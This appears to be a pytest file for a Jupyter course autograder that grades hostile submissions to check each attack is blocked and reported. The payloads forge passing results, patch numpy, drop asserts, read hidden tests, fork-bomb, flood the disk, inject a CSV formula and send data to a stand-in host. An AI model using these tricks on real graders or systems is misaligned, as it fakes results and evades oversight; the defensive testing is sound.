"""A hostile class, round two: attacks on the grader's *process*, its files and its reports.

Last round's attacks (tests/course/test_course_sandbox.py) went for what a kernel can reach.
These go for what the grader does with what the kernel and the class folder hand it:
values that lie about themselves, messages nested 20,000 deep, strings that forge report
lines, submissions that are links or pipes, patched modules and rewritten cells, forks and
disk floods. One batch (jobs=2) grades them all next to honest students. For every attack
``ATTACKS`` names how it is blocked (the row it must get) and how it is reported (a finding
or note an instructor sees); ``test_each_attack_is_blocked_and_reported`` checks both, and the
``test_control_*`` tests show, attack by attack, that without the protection the attack
succeeds (so each check can fail).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from course_helpers import cell_by_id, nbg, two_set_course

from tensorgrad_course import reports, sandbox, values
from tensorgrad_course.grade import Submission, discover, grade_batch, grade_submission
from tensorgrad_course.kernel import Limits

LIMITS = Limits(cell_timeout=20, notebook_timeout=120, interrupt_grace=3, file_mb=20, disk_mb=40, disk_files=2000,
                processes=64)
MIME = values.MIME
HONEST = {"square": "def square(x):\n    return x * x", "mean": "def mean(xs):\n    return sum(xs) / len(xs)",
          "predict": "leaf = True"}
HONEST_NAMED = {"scale": "import numpy as np\ndef scale(v, k):\n    return np.asarray(v, dtype=float) * k",
                "predict": "leaf = True\ncount = 3", "double": "def double(x):\n    return 2 * x"}
FORGED_LINE = "Tampering: none found"

# ------------------------------------------------------------ values and messages

SHAPE_LIE = '''
class Liar:  # says it has 2 elements, hands over 3
    shape = (2,)
    dtype = "float64"
    def tolist(self):
        return [3.0, 6.0, 9.0]
def scale(v, k):
    return Liar()
'''

# A display whose JSON nests 20,000 deep: json.dumps cannot write it, so the attacker packs the bytes itself.
DEEP_DISPLAY = '''
import numpy as np
from IPython.display import display
def scale(v, k):
    session = get_ipython().display_pub.session
    original = session.pack
    deep = b"[" * 20000 + b"]" * 20000
    session.pack = lambda obj: original(obj).replace(b'"DEEP"', deep)
    display({"application/vnd.tensorgrad.grade+json": "DEEP", "text/plain": "x"}, raw=True)
    session.pack = original
    return np.asarray(v, dtype=float) * k
'''

# The test's own record made unreadable: every later message carrying "DEEPMARK" nests 20,000 deep
# (the guard restores the session's pack before the test now, and reports it as patched).
DEEP_RECORD = '''
session = get_ipython().display_pub.session
_pack = session.pack
session.pack = lambda obj: _pack(obj).replace(b'"DEEPMARK"', b"[" * 20000 + b"]" * 20000)
def scale(v, k):
    return "DEEPMARK"
'''

# Inside the test, the kernel's encoder is replaced: the record's data is not a list of numbers.
BAD_RECORD = '''
import tensorgrad_course.values as V
def scale(v, k):
    V.encode = lambda value, _depth=0: {"type": "ndarray", "shape": [2], "data": "not numbers", "repr": "x"}
    return 0
'''

# A record whose elements are not numbers (an object where a float should be).
BAD_ELEMENTS = '''
import tensorgrad_course.values as V
def scale(v, k):
    V.encode = lambda value, _depth=0: {"type": "ndarray", "shape": [2], "data": [1.0, {"a": 1}], "repr": "x",
                                        "numeric": True, "element": "float", "dtype": "float64"}
    return 0
'''

# Too large an int to become a float, compared with a float array.
HUGE_INT = '''
import tensorgrad_course.values as V
def scale(v, k):
    V.encode = lambda value, _depth=0: {"type": "int", "data": 10 ** 400, "repr": "1e400"}
    return 0
'''

# A message whose text forges a report line.
NEWLINE_MESSAGE = '''
def square(x):
    raise ValueError("x\\n''' + FORGED_LINE + '''\\n  honest_0  basics: 4/4")
'''

# ------------------------------------------------------------ kernel-side tampering

# sys.modules["numpy"] swapped for a look-alike whose allclose always agrees (test_mean uses it).
SWAP_MODULE = '''
import sys, types
real = sys.modules["numpy"]
fake = types.ModuleType("numpy")
fake.__dict__.update(real.__dict__)
fake.allclose = lambda *a, **k: True
sys.modules["numpy"] = fake
def mean(xs):
    return 0.0
'''

# An input transformer that rewrites every later cell: the assertions never run.
TRANSFORMER = '''
def _rewrite(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_rewrite)
def square(x):
    return 0
'''

# An AST transformer that drops every assert statement.
AST_TRANSFORMER = '''
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
def square(x):
    return 0
'''

# A post-run hook that clears the error of every cell: a failed assertion is reported as "ok".
POST_RUN = '''
def _hook(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _hook)
def square(x):
    return 0
'''

# Task 2's answer cell reads IPython's input history for task 1's hidden test (In, _ih, the
# history database) and, as its proof, answers right only if it found it.
HISTORY = '''
def _history():
    ip = get_ipython()
    found = list(ip.user_ns.get("In", [])) + list(ip.user_ns.get("_ih", []))
    found += list(getattr(ip.history_manager, "input_hist_raw", []))
    try:
        found += [s for _, _, s in ip.history_manager.get_range(raw=True)]
    except Exception:
        pass
    return "\\n".join(found)
leaked = "square(" + "-2)" in _history()  # (split: this cell is in the history too)
def mean(xs):
    return sum(xs) / len(xs) if leaked else 0.0
'''

# Attempts that fail (the sandbox blocks them) but leave a trace: the guard's audit hook reports them.
TRACES = '''
import os, socket
wrote = []
for path in ("/etc/tg-pwned", os.path.expanduser("~") + "/../../tg-pwned", "/usr/tg-pwned"):
    try:
        open(path, "w").write("pwned")
        wrote.append(path)
    except OSError:
        pass
try:
    open("/proc/999999/root/etc/hostname").read()
except OSError:
    pass
for pid in (1, os.getppid()):
    try:
        os.kill(pid, 0)  # (signal 0: only asks whether the process is there)
    except OSError:
        pass
try:
    socket.create_connection(("10.255.255.1", 9), timeout=0.2)
except OSError:
    pass
def square(x, _shared=[p for p in wrote if p.startswith(("/etc/", "/usr/"))]):
    return x * x if _shared else 0  # (points, and so a failed test, if a write outside the kernel's own got through)
'''

# The channel the guard once did not watch: the kernel's message session. A wrong answer's failed
# test is reported to the grader as passed by rewriting the execute_reply on its way out.
FORGED_REPLY = '''
session = get_ipython().kernel.session
_send = type(session).send
def _forge(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _send(self, stream, msg_or_type, content, parent, *args, **kwargs)
session.send = _forge.__get__(session)
def square(x):
    return 0
'''

# The same, installed *while the test runs* (by the answer the test calls), after the guard's check.
FORGED_IN_TEST = '''
def square(x):
    session = get_ipython().kernel.session
    if "send" not in vars(session):
        _send = type(session).send
        def _forge(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):
            if msg_or_type == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"),
                           "user_expressions": {}, "payload": []}
            return _send(self, stream, msg_or_type, content, parent, *args, **kwargs)
        session.send = _forge.__get__(session)
    return 0
'''

# ------------------------------------------------------------ limits per kernel

FORK_BOMB = '''
import os, time
forked = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        forked += 1
    except OSError:
        break
time.sleep(1)  # (the monitor looks every 0.2 s)
def square(x):
    return x * x if forked == 200 else 0
'''

DISK_FILL = '''
import os, time
written = 0
for i in range(60):
    with open(f"fill{i}.bin", "wb") as fh:
        fh.write(os.urandom(2**20))
    written += 1
time.sleep(1)
def square(x):
    return x * x if written == 60 else 0
'''

MANY_FILES = '''
import os, time
os.makedirs("many", exist_ok=True)
made = 0
for i in range(3000):
    open(f"many/{i}", "w").close()
    made += 1
time.sleep(1)
def square(x):
    return x * x if made == 3000 else 0
'''

BIG_FILE = '''
def square(x):
    return 0
with open("big.bin", "wb") as fh:
    fh.write(b"x" * (30 * 2**20))
'''

MEMORY = '''
def square(x):
    return 0
hog = bytearray(4 * 2**30)
'''

# ------------------------------------------------------------ the attacks

#: student -> (exercise set, answers, expected task scores, what must be reported).
#  A "report" is a substring of the row's reason, a test message or an integrity finding.
ATTACKS: dict[str, tuple[str, dict, dict, str]] = {
    "d_shape_lie": ("named", {"scale": SHAPE_LIE}, {"test_scale": 0}, "disagree"),
    "d_deep_display": ("named", {"scale": DEEP_DISPLAY}, {"test_scale": 3}, "unreadable: a message"),
    "d_deep_record": ("named", {"scale": DEEP_RECORD}, {"test_scale": 0}, "session.pack"),  # (restored before the test)
    "d_bad_record": ("named", {"scale": BAD_RECORD}, {"test_scale": 0}, "could not read your"),
    "d_bad_elements": ("named", {"scale": BAD_ELEMENTS}, {"test_scale": 0}, "elements are not numbers"),
    "d_huge_int": ("named", {"scale": HUGE_INT}, {"test_scale": 0}, "scale("),
    "s_newline_message": ("basics", {"square": NEWLINE_MESSAGE}, {"test_square": 0}, "ValueError"),
    "k_swap_module": ("basics", {"mean": SWAP_MODULE}, {"test_mean": 0}, "sys.modules['numpy']"),
    "k_input_transformer": ("basics", {"square": TRANSFORMER}, {"test_square": 0}, "input_transformers_post"),
    "k_ast_transformer": ("basics", {"square": AST_TRANSFORMER}, {"test_square": 0}, "ast_transformers"),
    "k_post_run_hook": ("basics", {"square": POST_RUN}, {"test_square": 0}, "post_run_cell"),
    "k_read_history": ("basics", {"mean": HISTORY}, {"test_mean": 0}, ""),
    "t_traces": ("basics", {"square": TRACES}, {"test_square": 0}, "attempted writing '/etc/tg-pwned'"),
    "k_forged_reply": ("basics", {"square": FORGED_REPLY}, {"test_square": 0}, "session.send"),
    "k_forged_in_test": ("basics", {"square": FORGED_IN_TEST}, {"test_square": 0}, "after test 'test_square'"),
    "l_fork_bomb": ("basics", {"square": FORK_BOMB}, {"test_square": 0}, "the process limit"),
    "l_disk_fill": ("basics", {"square": DISK_FILL}, {"test_square": 0}, "the disk limit"),
    "l_many_files": ("basics", {"square": MANY_FILES}, {"test_square": 0}, "2000 files"),
    "l_big_file": ("basics", {"square": BIG_FILE}, {"test_square": 0}, "the limit on the size of one file"),
    "l_memory": ("basics", {"square": MEMORY}, {"test_square": 0}, "the kernel's memory limit"),
}

#: Students whose *names* or *cells* attack the reports (their answers are honest).
NEWLINE_STUDENT = "m_newline\n" + FORGED_LINE + "\n"
BIDI_STUDENT = "m_bidi\u202egnp.sserd"
FORMULA_STUDENT = "=HYPERLINK(\"evil.example\",\"m_formula\")"
NEWLINE_FILE = "basics\n" + FORGED_LINE + ".ipynb"
NEWLINE_GID = "zz\n" + FORGED_LINE + "\n"

#: Submissions that are not plain files (made in the fixture), by student.
FILES = ("f_symlink", "f_hardlink", "f_fifo", "f_dirlink", "f_devzero")


def _write(nb: dict, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb), encoding="utf-8")


def _answered(release: dict, answers: dict) -> dict:
    nb = json.loads(json.dumps(release))
    for gid, source in answers.items():
        cell_by_id(nb, gid)["source"] = source
    return nb


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile2")
    basics, named = two_set_course(root)
    subs, out = root / "submissions", root / "out"
    solution = root / "solutions" / "basics.ipynb"
    releases = {"basics": (basics, HONEST), "named": (named, HONEST_NAMED)}
    for student, (set_name, answers, _, _) in ATTACKS.items():
        release, honest = releases[set_name]
        _write(_answered(release, {**honest, **answers}), subs / student / f"{set_name}.ipynb")
    for i in range(2):
        _write(_answered(basics, HONEST), subs / f"honest_{i}" / "basics.ipynb")
    _write(_answered(named, HONEST_NAMED), subs / "honest_named" / "named.ipynb")
    # Names and cells that try to forge report lines.
    for student in (NEWLINE_STUDENT, BIDI_STUDENT, FORMULA_STUDENT):
        _write(_answered(basics, HONEST), subs / student / "basics.ipynb")
    _write(_answered(basics, HONEST), subs / "m_newline_file" / NEWLINE_FILE)
    extra = _answered(basics, HONEST)
    extra["cells"].append({"cell_type": "code", "execution_count": None, "id": "zz", "outputs": [], "source": "x = 1",
                           "metadata": nbg(NEWLINE_GID, solution=True)})
    _write(extra, subs / "m_newline_gid" / "basics.ipynb")
    # Submissions that are links, pipes and devices.
    for student in FILES:
        (subs / student).mkdir(parents=True)
    (subs / "f_symlink" / "basics.ipynb").symlink_to(solution)
    os.link(solution, subs / "f_hardlink" / "basics.ipynb")
    os.mkfifo(subs / "f_fifo" / "basics.ipynb")
    (subs / "f_dirlink" / "work").symlink_to(root / "solutions", target_is_directory=True)
    (subs / "f_devzero" / "basics.ipynb").symlink_to("/dev/zero")

    results = grade_batch(discover([subs]), root / "solutions", root / "exercises", LIMITS, jobs=2,
                          cache_dir=out / ".cache")
    reports.write_reports(results, out, LIMITS)
    return {"root": root, "out": out, "results": results, "basics": basics, "named": named,
            "by_student": {r.student: r for r in results}}


def _text_of(result) -> str:
    parts = [result.reason, *(t.reason for t in result.tasks), *(x.message for t in result.tasks for x in t.tests),
             *(f["detail"] for f in result.integrity)]
    return "\n".join(parts)


def test_no_submission_is_a_grader_error(hostile):
    assert not [(r.student, r.reason) for r in hostile["results"] if r.status == "grader_error"]


def test_honest_students_get_full_marks(hostile):
    for student in ("honest_0", "honest_1", "honest_named", NEWLINE_STUDENT, BIDI_STUDENT, FORMULA_STUDENT,
                    "m_newline_gid", "m_newline_file"):
        r = hostile["by_student"][student]
        assert (r.status, r.score) == ("graded", r.max_score), (student, r.reason, r.tasks)


@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_each_attack_is_blocked_and_reported(hostile, student):
    _, _, scores, report = ATTACKS[student]
    r = hostile["by_student"][student]
    assert r.status in ("graded", "kernel_died"), (r.status, r.reason)
    got = {t.grade_id: t.points for t in r.tasks}
    assert {gid: got[gid] for gid in scores} == scores, r.tasks
    assert report in _text_of(r), _text_of(r)


@pytest.mark.parametrize("student", FILES)
def test_links_pipes_and_devices_are_refused_with_a_row(hostile, student):
    rows = [r for r in hostile["results"] if r.student == student]
    assert len(rows) == 1, rows
    (r,) = rows
    assert r.status == "invalid_notebook" and r.score == 0 and r.reason.startswith("refused:"), r.reason
    assert [f["kind"] for f in r.integrity] == ["refused_file"] and r.integrity[0]["tampering"]


def test_tampering_in_the_kernel_is_a_finding(hostile):
    for student in ("k_swap_module", "k_input_transformer", "k_ast_transformer", "k_post_run_hook", "d_deep_display",
                    "t_traces"):
        r = hostile["by_student"][student]
        assert any(f["tampering"] for f in r.integrity), (student, r.integrity)


def test_no_student_string_forges_a_line_of_any_report(hostile):
    out = hostile["out"]
    summary = (out / "summary.txt").read_text(encoding="utf-8")
    assert [line for line in summary.splitlines() if line.strip() == FORGED_LINE] == []
    assert "m_newline\\nTampering" in summary and "\\u202e" in summary
    assert "\u202e" not in summary
    for path in [*out.rglob("*.csv"), *out.rglob("results.json")]:
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines() if path.suffix == ".csv" else [
            line for test in json.loads(text)["tests"] for line in [test["name"], *test.get("output", "").splitlines()]]
        assert not [line for line in lines if line.strip().strip('"') == FORGED_LINE], (path, text[:2000])
    table = (out / "csv" / "basics.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in table and "\n=HYPERLINK" not in table and ',"=HYPERLINK' not in table


# ------------------------------------------------------------ controls: without the protection


def test_control_a_lying_value_breaks_an_unchecked_comparison(hostile):
    record = {"type": "ndarray", "shape": [2], "data": [3.0, 6.0, 9.0], "repr": "x", "numeric": True,
              "element": "float", "dtype": "float64"}
    wanted = values.encode(__import__("numpy").array([3.0, 6.0]))
    with pytest.raises(ValueError):
        values.compare(wanted, record, name="scale")  # what the grader did with it last round
    assert "disagree" in values.record_problem(record)
    for bad in ({"type": "ndarray", "shape": [2], "data": "not numbers", "repr": "x"},
                {"type": "ndarray", "shape": [2], "data": [1.0, {"a": 1}], "repr": "x", "numeric": True}):
        with pytest.raises((ValueError, TypeError)):
            values.compare(wanted, bad, name="scale")
        assert values.record_problem(bad)
    with pytest.raises(OverflowError):  # against a float: the int cannot become one
        values.compare(values.encode(2.5), {"type": "int", "data": 10 ** 400, "repr": "1e400"}, name="x")


def test_control_a_deep_message_breaks_the_standard_reader():
    from jupyter_client.session import json_unpacker

    from tensorgrad_course.kernel import UNREADABLE, safe_unpack

    deep = b"[" * 20000 + b"]" * 20000
    with pytest.raises(RecursionError):
        json_unpacker(deep)
    assert UNREADABLE in safe_unpack(deep)


def test_control_unescaped_names_forge_summary_lines(hostile):
    r = hostile["by_student"][NEWLINE_STUDENT]
    raw = f"  {r.student}  {r.notebook}: {r.score}/{r.max_score}"  # how summary.txt wrote a row
    assert FORGED_LINE in raw.splitlines()
    assert FORGED_LINE not in reports.plain(raw).splitlines()


@pytest.mark.parametrize("student", ["s_newline_message", BIDI_STUDENT, "m_newline_file", "m_newline_gid"])
def test_control_other_student_strings_forge_lines_unescaped(hostile, student):
    """A kernel's message, a name with a right-to-left override, a file name and a grade_id, each
    written as it came (last round's reports): a forged line, or the override itself, reaches the
    report; written with reports.plain (what every report does now) they do not."""
    raw = {"s_newline_message": "x\n" + FORGED_LINE + "\n  honest_0  basics: 4/4", BIDI_STUDENT: BIDI_STUDENT,
           "m_newline_file": NEWLINE_FILE, "m_newline_gid": NEWLINE_GID}[student]
    if student == BIDI_STUDENT:
        assert "\u202e" in raw and "\u202e" not in reports.plain(raw)
    else:
        assert any(line.strip().startswith(FORGED_LINE) for line in raw.splitlines())
        assert not any(line.strip().startswith(FORGED_LINE) for line in reports.plain(raw).splitlines())


def test_control_a_formula_name_is_a_formula_in_a_plain_csv(hostile):
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer).writerow([FORMULA_STUDENT, 4])  # a CSV writer's own quoting: still a formula
    (cell, _), = csv.reader(io.StringIO(buffer.getvalue()))
    assert cell.startswith("=HYPERLINK")
    assert reports._csv_text(FORMULA_STUDENT).startswith("'=HYPERLINK")


def test_control_a_link_to_a_device_never_ends(hostile):
    import stat

    link = hostile["root"] / "submissions" / "f_devzero" / "basics.ipynb"
    assert stat.S_ISCHR(os.stat(link).st_mode)  # followed: a device, not a file
    with open(link, "rb") as stream:
        assert stream.read(2**20) == bytes(2**20)  # and it never ends


def test_control_without_a_file_size_limit_the_big_file_is_written_and_nothing_said(hostile):
    from dataclasses import replace

    from tensorgrad_course.exercise_set import load_exercise_sets

    path = hostile["root"] / "submissions" / "l_big_file" / "basics.ipynb"
    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    r = grade_submission(Submission("l_big_file", str(path)), sets, replace(LIMITS, file_mb=0))
    assert r.status == "graded" and "the limit on the size of one file" not in _text_of(r), _text_of(r)


def test_control_links_and_pipes_are_followed_or_lost_without_the_check(hostile):
    subs, solution = hostile["root"] / "submissions", hostile["root"] / "solutions" / "basics.ipynb"
    for student in ("f_symlink", "f_hardlink"):
        assert (subs / student / "basics.ipynb").read_bytes() == solution.read_bytes()  # the solution, graded
    assert not (subs / "f_fifo" / "basics.ipynb").is_file()  # skipped unseen by last round's discovery
    assert (subs / "f_dirlink" / "work" / "basics.ipynb").is_file()


@pytest.mark.parametrize("student", ["k_swap_module", "k_input_transformer", "k_ast_transformer",
                                     "k_post_run_hook"])
def test_control_kernel_tampering_passes_without_the_guard(hostile, student, tmp_path, monkeypatch):
    """With the guard's new checks off (the guard of last round), each of these attacks scores."""
    from tensorgrad_course import guard

    monkeypatch.setattr(guard, "RESTORE_EXTRA", False)
    set_name, _, scores, _ = ATTACKS[student]
    path = hostile["root"] / "submissions" / student / f"{set_name}.ipynb"
    from tensorgrad_course.exercise_set import load_exercise_sets

    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    r = grade_submission(Submission(student, str(path)), sets, LIMITS)
    got = {t.grade_id: t.points for t in r.tasks}
    assert all(got[gid] > 0 for gid in scores), r.tasks


def test_the_sandbox_is_on():
    assert not LIMITS.sandbox or sandbox.bwrap()[0] is not None


@pytest.mark.parametrize("student", ["l_fork_bomb", "l_disk_fill", "l_many_files"])
def test_control_without_the_monitor_the_flood_succeeds(hostile, student, tmp_path):
    """No process or disk limit: 200 processes, 60 MB and 3,000 files, and the attacker's proof of it scores."""
    from dataclasses import replace

    from tensorgrad_course.exercise_set import load_exercise_sets

    path = hostile["root"] / "submissions" / student / "basics.ipynb"
    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    unlimited = replace(LIMITS, processes=0, disk_mb=0, disk_files=10**9)
    r = grade_submission(Submission(student, str(path)), sets, unlimited)
    assert r.status == "graded" and {t.grade_id: t.points for t in r.tasks}["test_square"] == 2, (r.reason, r.tasks)


def test_control_without_a_memory_limit_the_hog_gets_its_4_gib_and_nothing_is_said(hostile):
    """No address-space limit: the kernel takes its 4 GiB (for a moment, then lets go) and no
    note says a word of it. (It touches 4 GiB of the machine's memory: about a second on a quiet
    machine, but 23 s where first touches of memory are slow, as in this project's VM on
    2026-12-07; so the cell gets the time the control needs, not the class's 20 s: the time
    limit is not what this control is about.)"""
    from dataclasses import replace

    from tensorgrad_course.exercise_set import load_exercise_sets

    path = hostile["root"] / "submissions" / "l_memory" / "basics.ipynb"
    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    r = grade_submission(Submission("l_memory", str(path)), sets,
                         replace(LIMITS, memory_mb=0, cell_timeout=180, notebook_timeout=300))
    assert r.status == "graded", (r.status, r.reason)
    assert ATTACKS["l_memory"][3] not in _text_of(r), _text_of(r)
    assert "MemoryError" not in _text_of(r), _text_of(r)


def test_control_the_input_history_holds_the_hidden_tests_when_they_are_stored(hostile, monkeypatch):
    """Run with store_history=True for every cell (last round's runs): the history attack scores."""
    from tensorgrad_course import assemble
    from tensorgrad_course.exercise_set import load_exercise_sets

    monkeypatch.setattr(assemble, "PRIVATE", "not_private")
    path = hostile["root"] / "submissions" / "k_read_history" / "basics.ipynb"
    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    r = grade_submission(Submission("k_read_history", str(path)), sets, LIMITS)
    assert {t.grade_id: t.points for t in r.tasks}["test_mean"] == 1, r.tasks


def test_blocked_attempts_are_each_reported(hostile):
    (finding,) = [f for f in hostile["by_student"]["t_traces"].integrity if f["kind"] == "attempted"]
    for trace in ("writing '/etc/tg-pwned'", "writing '/usr/tg-pwned'", "reading '/proc/<pid>/root/etc/hostname'",
                  "sending signal 0 to process", "connecting to ('10.255.255.1', 9)"):
        assert trace in finding["detail"], finding
    honest = [r for r in hostile["results"] if r.student.startswith("honest")]
    assert honest and not [f for r in honest for f in r.integrity], [r.integrity for r in honest]


def test_control_without_the_audit_hook_attempts_leave_no_finding(hostile, monkeypatch):
    from tensorgrad_course import guard
    from tensorgrad_course.exercise_set import load_exercise_sets

    monkeypatch.setattr(guard, "RESTORE_EXTRA", False)
    path = hostile["root"] / "submissions" / "t_traces" / "basics.ipynb"
    sets = load_exercise_sets(hostile["root"] / "solutions", hostile["root"] / "exercises")
    r = grade_submission(Submission("t_traces", str(path)), sets, LIMITS)
    assert not [f for f in r.integrity if f["kind"] == "attempted"], r.integrity


# ------------------------------------------------------------ eight blocked attacks, each reported

#: The eight classes of attack the sandbox blocks, one student each: what the answer cell tries,
#: and what the instructor must read about it (the student's "attempted" finding).
BLOCKED = {
    "b_read_solutions": ("open({solution!r}).read()", "reading '{solution}'"),
    "b_read_through_proc": ("open('/proc/1/root' + {solution!r}).read()", "reading '/proc/<pid>/root"),
    "b_write_outside": ("open('/etc/tg-owned', 'w').write('x')", "writing '/etc/tg-owned'"),
    "b_signal_the_grader": ("os.kill(os.getppid(), 9)", "sending signal 9 to process"),
    "b_connect_out": ("socket.create_connection(('10.255.255.1', 80), timeout=0.2)", "connecting to ('10.255.255.1', 80)"),
    "b_send_data_out": ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'answers', ('10.255.255.1', 53))",
                        "sending data to ('10.255.255.1', 53)"),
    "b_patch_the_grader": ("open({package!r} + '/grade.py', 'a').write('#')", "writing '{package}/grade.py'"),
    "b_poison_the_cache": ("open({cache!r} + '/basics.json', 'w').write('{{}}')", "writing '{cache}/basics.json'"),
}


@pytest.fixture(scope="module")
def blocked(tmp_path_factory):
    from tensorgrad_course import expected as exp

    root = tmp_path_factory.mktemp("blocked")
    basics, _ = two_set_course(root)
    paths = {"solution": str(root / "solutions" / "basics.ipynb"), "cache": str(root / "out" / ".cache"),
             "package": str(Path(exp.__file__).resolve().parent)}
    for student, (attempt, _) in BLOCKED.items():
        code = f"import os, socket\ntry:\n    {attempt.format(**paths)}\nexcept Exception:\n    pass\n"
        _write(_answered(basics, {**HONEST, "square": code + "def square(x):\n    return 0"}),
               root / "submissions" / student / "basics.ipynb")
    results = grade_batch(discover([root / "submissions"]), root / "solutions", root / "exercises", LIMITS, jobs=2,
                          cache_dir=root / "out" / ".cache")
    return {"by_student": {r.student: r for r in results}, "paths": paths}


@pytest.mark.parametrize("student", sorted(BLOCKED))
def test_each_of_the_eight_blocked_attacks_is_reported(blocked, student):
    r = blocked["by_student"][student]
    assert {t.grade_id: t.points for t in r.tasks}["test_square"] == 0
    attempted = [f["detail"] for f in r.integrity if f["kind"] == "attempted" and f["tampering"]]
    assert any(BLOCKED[student][1].format(**blocked["paths"]) in d for d in attempted), r.integrity
